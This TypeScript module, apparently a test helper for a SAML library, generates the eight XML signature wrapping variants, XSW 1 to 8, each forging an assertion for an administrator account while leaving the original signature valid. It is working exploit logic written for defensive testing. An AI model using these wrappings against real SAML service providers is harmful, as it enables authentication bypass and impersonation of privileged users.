import { assertionTemplate, RESPONSE_ID, type ResponseOptions } from './saml-responses.ts'

// XML signature wrapping: the signed element stays in the document, so its signature holds, while
// software that looks for the assertion by name finds the forged one.

type Wrapping = (xml: string) => string

function parts(xml: string, options: ResponseOptions) {
  const assertion = /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? ''
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? ''
  const forged = assertionTemplate({
    ...options,
    assertionId: '_forged',
    nameId: 'admin@northwind.example',
    attributes: { email: 'admin@northwind.example' },
  })
  return { assertion, signature, unsigned: assertion.replace(signature, ''), forged }
}

function afterIssuer(element: string, inserted: string) {
  return element.replace('</saml:Issuer>', `</saml:Issuer>${inserted}`)
}

function insideSignature(signature: string, inserted: string) {
  return signature.replace('</ds:Signature>', `${inserted}</ds:Signature>`)
}

/**
 * Returns XSW 1 and 2 for a signed response and 3 to 8 for a signed assertion, numbered as in the
 * literature.
 */
export function wrappings(
  options: ResponseOptions,
): Record<string, { sign: 'assertion' | 'response'; tamper: Wrapping }> {
  function ofResponse(
    build: (pieces: { evil: string; original: string; signature: string }) => string,
  ) {
    function tamper(xml: string) {
      const { assertion, signature, forged } = parts(xml, options)
      const original = xml.replace(signature, '')
      const evil = original.replace(assertion, forged).replace(RESPONSE_ID, '_forgedResponse')
      return build({ evil, original, signature })
    }
    return { sign: 'response' as const, tamper }
  }

  function ofAssertion(build: (pieces: ReturnType<typeof parts>) => string) {
    function tamper(xml: string) {
      const pieces = parts(xml, options)
      return xml.replace(pieces.assertion, build(pieces))
    }
    return { sign: 'assertion' as const, tamper }
  }

  return {
    'XSW 1: the signed response inside the signature of a forged one': ofResponse(
      ({ evil, original, signature }) => afterIssuer(evil, insideSignature(signature, original)),
    ),
    'XSW 2: the signed response beside its signature in a forged one': ofResponse(
      ({ evil, original, signature }) => afterIssuer(evil, original + signature),
    ),
    'XSW 3: a forged assertion before the signed one': ofAssertion(
      ({ assertion, forged }) => forged + assertion,
    ),
    'XSW 3b: a forged assertion after the signed one': ofAssertion(
      ({ assertion, forged }) => assertion + forged,
    ),
    'XSW 4: the signed assertion inside a forged one': ofAssertion(({ assertion, forged }) =>
      forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
    ),
    'XSW 5: the signature moved to a forged assertion': ofAssertion(
      ({ signature, unsigned, forged }) => afterIssuer(forged, signature) + unsigned,
    ),
    'XSW 6: the signed assertion inside its signature in a forged one': ofAssertion(
      ({ signature, unsigned, forged }) =>
        afterIssuer(forged, insideSignature(signature, unsigned)),
    ),
    'XSW 7: a forged assertion inside extensions': ofAssertion(
      ({ assertion, forged }) => `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`,
    ),
    'XSW 8: the signed assertion in an object of the signature': ofAssertion(
      ({ signature, unsigned, forged }) =>
        afterIssuer(forged, insideSignature(signature, `<ds:Object>${unsigned}</ds:Object>`)),
    ),
  }
}
